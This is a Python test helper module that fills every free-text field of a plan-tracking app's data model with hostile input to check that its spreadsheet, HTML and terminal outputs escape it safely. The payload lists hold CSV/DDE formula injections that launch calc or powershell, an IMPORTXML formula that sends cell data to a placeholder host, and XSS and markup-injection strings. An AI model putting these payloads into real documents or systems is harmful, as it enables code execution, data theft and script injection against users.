"""Hostile text for the bad-input campaign (issue #5), and plans that carry it in every text field.

The payload lists are what the campaign puts in front of each output: spreadsheet formulas and
DDE commands for CSV/XLSX, script, attribute and link injections for the HTML pack, and Rich /
Textual markup for the terminal UI. :func:`text_fields` finds every free-text field of a plan
from the pydantic models themselves, so a text field added later is attacked without anyone
remembering to list it here. :func:`hostile_plan` fills all of them at once.

When ``IPT_CAMPAIGN_REPORT`` names a file, :func:`record` appends one JSON line per check to it;
``python -m tests.campaign_report`` adds them up.
"""

from __future__ import annotations

import json
import os
import types
import typing
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import date, datetime
from pathlib import Path
from typing import Any, get_args, get_origin

from pydantic import BaseModel

from store.compare import Comparison, compare_plans
from store.models import (
    Action,
    ActionUpdate,
    Allocation,
    Comparator,
    CriterionJudgement,
    DueDateChange,
    Governance,
    ImpactSignOff,
    Inspection,
    Kpi,
    MonitoringLine,
    Plan,
    Rag,
    Reading,
    Recommendation,
    RequestedAction,
    ReturnRequest,
    ReviewItem,
    ReviewSession,
    SpendEntry,
    Target,
    Theme,
    TrackerMapping,
)

AS_OF = date(2019, 10, 3)
BEFORE = date(2019, 9, 5)

EXAMPLES = max(1, int(os.environ.get("IPT_CAMPAIGN_EXAMPLES", "25")))
"""Hypothesis examples per round trip: 25 keeps the default suite fast; ``make faults`` sets 1000."""
FULL = EXAMPLES >= 1000
"""The full campaign: every payload on its own through the UI as well as all of them at once."""

# Spreadsheets -------------------------------------------------------------------------------

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n")
"""OWASP's list of first characters that make a spreadsheet cell a formula."""

FORMULA_PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    '=HYPERLINK("http://x","y")',
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    '=DDE("cmd";"/C calc";"!A0")',
    "=cmd|'/C powershell -c calc'!'A1'",
    "+cmd|' /C calc'!A0",
    "-10+20+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x/?v=",A1),"//a")',
    '=WEBSERVICE("http://x")',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\calc.exe'!''",
    "-£1,234.56 saving",
    "@risk",
)
"""Formula and DDE payloads; each starts with a trigger after the models strip whitespace."""

INNER_PAYLOADS = ("x\t=1+2", "x\n=1+2", "x\r\n=1+2", "x\r=1+2", "x,=1+2", 'x",=1+2', "x;=1+2")
"""Triggers that follow a separator inside the text (tab, line break, comma, semicolon)."""

# HTML ---------------------------------------------------------------------------------------

HTML_PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">x</a>',
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<svg onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "{{7*7}}",
    "<!--",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
)

# Terminal markup ------------------------------------------------------------------------------

MARKUP_PAYLOADS = ("[bold]x[/]", "[@click=app.quit]x[/]", "[link=https://x]y[/]", "[red", "\\[", "[/]")
MARKUP_ALL = " ".join(MARKUP_PAYLOADS)
"""Every markup payload in one string: a parser that reads any of it as markup changes or crashes."""


# Finding the text fields ---------------------------------------------------------------------

REFERENCES = frozenset(
    {
        ("Action", "theme"),
        ("Action", "funding"),
        ("Action", "measures"),
        ("Allocation", "theme"),
        ("SpendEntry", "allocation"),
        ("ReviewSession", "snapshot_id"),
        ("RequestedAction", "ref"),
        ("ReturnRequest", "held_back"),
    }
)
"""String fields that hold keys of other entities, not free text."""


@dataclass(frozen=True, slots=True)
class TextField:
    """One free-text field of a plan, e.g. ``actions[].updates[].text``."""

    path: str
    model: str
    name: str
    many: bool
    """A list of texts (attendees, decisions) rather than one."""


def _unwrap(annotation: Any) -> Any:
    """``X | None`` -> ``X``; ``Annotated[X, ...]`` -> ``X``."""
    while True:
        origin = get_origin(annotation)
        if origin is typing.Annotated:
            annotation = get_args(annotation)[0]
        elif origin in (typing.Union, types.UnionType):
            options = [arg for arg in get_args(annotation) if arg is not type(None)]
            if len(options) != 1:
                return annotation
            annotation = options[0]
        else:
            return annotation


def _is_free_text(model: type[BaseModel], name: str) -> bool:
    info = model.model_fields[name]
    if (model.__name__, name) in REFERENCES:
        return False
    for item in info.metadata:
        if getattr(item, "pattern", None) or type(item).__name__ == "BeforeValidator":
            return False  # keys, ids and formatted values (periods, financial years)
    return True


def _walk(model: type[BaseModel], prefix: str) -> Iterator[TextField]:
    for name, info in model.model_fields.items():
        annotation = _unwrap(info.annotation)
        many = get_origin(annotation) is list
        inner = _unwrap(get_args(annotation)[0]) if many else annotation
        path = f"{prefix}{name}{'[]' if many else ''}"
        if isinstance(inner, type) and issubclass(inner, BaseModel):
            yield from _walk(inner, path + ".")
        elif inner is str and _is_free_text(model, name):
            yield TextField(path, model.__name__, name, many)


def text_fields() -> list[TextField]:
    """Every free-text field of :class:`Plan`, found from the models."""
    return list(_walk(Plan, ""))


# A plan with something in every field -----------------------------------------------------------


def base_plan() -> Plan:
    """A small plan in which every text field, optional or not, holds something.

    Its dates are set against :data:`AS_OF` so that the pack's exception tables (red, overdue,
    RAG contradictions) and the comparison's change tables all have rows.
    """
    update = ActionUpdate(on=date(2019, 9, 20), author="Author", text="Update", rag="amber")
    moved = DueDateChange(
        on=date(2019, 8, 1),
        by="Mover",
        old_due_on=date(2019, 8, 31),
        new_due_on=date(2019, 9, 30),
        reason="R",
    )
    return Plan(
        id="hostile",
        name="Plan",
        authority="Authority",
        description="Description",
        starts_on=date(2019, 4, 1),
        ends_on=date(2021, 3, 31),
        inspection=Inspection(
            framework="ILACS",
            lead_inspector="Lead inspector",
            judgements=[CriterionJudgement(criterion="Overall", judgement="Inadequate")],
        ),
        governance=Governance(board="Board", chair="Chair", cadence="monthly"),
        themes=[
            Theme(key="WF", name="Workforce", aim="Aim", lead="Lead"),
            Theme(key="QP", name="Quality", aim="Aim 2", lead="Lead 2"),
        ],
        recommendations=[
            Recommendation(number=1, text="Rec 1"),
            Recommendation(
                number=2, text="Rec 2", impact_evidenced=ImpactSignOff(on=AS_OF, by="By", note="N")
            ),
            Recommendation(number=3, text="Rec 3 (a gap)"),
        ],
        actions=[
            Action(
                ref="WF-01",
                theme="WF",
                title="Red and overdue",
                description="D",
                owner="Owner",
                start_on=date(2019, 5, 1),
                due_on=date(2019, 9, 30),
                status="in_progress",
                rag="green",
                progress=40,
                recommendations=[1],
                funding=["A1"],
                measures=["K1"],
                updates=[update],
                due_history=[moved],
            ),
            Action(
                ref="QP-01",
                theme="QP",
                title="Complete",
                description="D",
                owner="Owner 2",
                start_on=date(2019, 5, 1),
                due_on=date(2019, 9, 1),
                completed_on=date(2019, 9, 1),
                status="complete",
                rag="blue",
                progress=100,
                recommendations=[2],
                updates=[update.model_copy(update={"rag": Rag.BLUE})],
            ),
            Action(ref="QP-02", theme="QP", title="Due soon", owner="Owner 3", due_on=date(2019, 10, 20)),
        ],
        allocations=[
            Allocation(
                id="A1",
                source="growth_bid",
                category="investment",
                financial_year="2019/20",
                amount="1234567.89",
                purpose="Purpose",
                theme="WF",
                approved_by="Cabinet",
                approved_on=date(2019, 4, 10),
            ),
            Allocation(
                id="A2",
                source="reserves",
                kind="capital",
                category="budget_reduction",
                financial_year="2020/21",
                amount="-329000.01",
                purpose="Saving",
                approved_by="Council",
            ),
        ],
        spend=[
            SpendEntry(
                id="S1", allocation="A1", financial_year="2019/20", period=3, amount="250000.50", note="N"
            ),
            SpendEntry(
                id="S2",
                allocation="A1",
                financial_year="2019/20",
                kind="commitment",
                amount="0.01",
                note="N2",
            ),
        ],
        monitoring=[
            MonitoringLine(
                id="M1",
                period="Month 3 2019/20",
                service_area="Fieldwork",
                group="Children in Care",
                budget="9500000",
                forecast="10045000.99",
                use_of_reserves="-279000",
                reason="Staffing",
            )
        ],
        kpis=[
            Kpi(
                id="K1",
                name="Agency social workers",
                unit="%",
                polarity="lower_is_better",
                baseline=Reading(on=date(2019, 1, 1), value=80, label="Baseline"),
                readings=[
                    Reading(on=date(2019, 2, 1), value=74, label="Feb"),
                    Reading(on=date(2019, 8, 1), value=35, label="Aug"),
                ],
                targets=[Target(financial_year="2019/20", value=30)],
                target_detail="Detail",
                comparators=[Comparator(name="England", value="15.4")],
            )
        ],
        reviews=[
            ReviewSession(
                id="R1",
                held_on=date(2019, 9, 5),
                board="Change Board",
                chair="Chair",
                attendees=["One", "Two"],
                items=[
                    ReviewItem(
                        subject="WF-01",
                        kinds=["red"],
                        title="T",
                        why="W",
                        commentary="C",
                        decision="D",
                        outcome="O",
                    )
                ],
                decisions=["Decided"],
                snapshot_id=None,
                closed_at=datetime(2019, 9, 5, 12, 0),
            )
        ],
        mappings=[TrackerMapping(sheet="Sheet", confirmed_by="Confirmer", columns={"Whose": "owner"})],
        requests=[
            ReturnRequest(
                id="RQ-001",
                owner="Owner",
                sent_on=date(2019, 9, 1),
                sent_by="Sender",
                file="File",
                actions=[RequestedAction(ref="WF-01")],
                returned_on=date(2019, 9, 10),
                returned_by="Returner",
                returned_file="Returned",
                held_back=["WF-01"],
            )
        ],
    )


def _fill(data: Any, model: type[BaseModel], prefix: str, value: Callable[[TextField], str]) -> None:
    for name, info in model.model_fields.items():
        if name not in data or data[name] is None:
            continue
        annotation = _unwrap(info.annotation)
        many = get_origin(annotation) is list
        inner = _unwrap(get_args(annotation)[0]) if many else annotation
        path = f"{prefix}{name}{'[]' if many else ''}"
        if isinstance(inner, type) and issubclass(inner, BaseModel):
            for item in data[name] if many else [data[name]]:
                _fill(item, inner, path + ".", value)
        elif inner is str and _is_free_text(model, name):
            field = TextField(path, model.__name__, name, many)
            data[name] = [value(field) for _ in data[name]] if many else value(field)


def fill_text(plan: Plan, value: Callable[[TextField], str]) -> Plan:
    """``plan`` with every free-text field set to ``value(field)``."""
    data = plan.model_dump()
    _fill(data, Plan, "", value)
    return Plan.model_validate(data)


def tag(field: TextField) -> str:
    """A marker naming the field, kept by every format: ``«f07»``."""
    return f"«f{text_fields().index(field):02d}»"


def hostile_plan(payload: str, *, tagged: bool = True) -> Plan:
    """:func:`base_plan` with ``payload`` (then the field's :func:`tag`) in every text field."""
    return fill_text(base_plan(), lambda field: f"{payload} {tag(field)}" if tagged else payload)


def hostile_comparison(plan: Plan) -> Comparison:
    """The plan against an earlier state with something in every change table."""
    data = plan.model_dump()
    data["actions"][0].update(rag="amber", progress=10, due_on=date(2019, 8, 31))
    data["actions"][1].update(status="in_progress", completed_on=None, rag="green", progress=90)
    data["actions"] = data["actions"][:2]
    data["kpis"][0]["readings"] = data["kpis"][0]["readings"][:1]
    data["spend"] = data["spend"][:1]
    return compare_plans(Plan.model_validate(data), BEFORE, plan, AS_OF)


# Counting ---------------------------------------------------------------------------------------


def record(check: str, examples: int = 1, findings: int = 0, **detail: object) -> None:
    """Note a check for the campaign report, when ``IPT_CAMPAIGN_REPORT`` names a file."""
    target = os.environ.get("IPT_CAMPAIGN_REPORT")
    if not target:
        return
    line = {"check": check, "examples": examples, "findings": findings, **detail}
    with Path(target).open("a", encoding="utf-8") as handle:
        handle.write(json.dumps(line, default=str) + "\n")
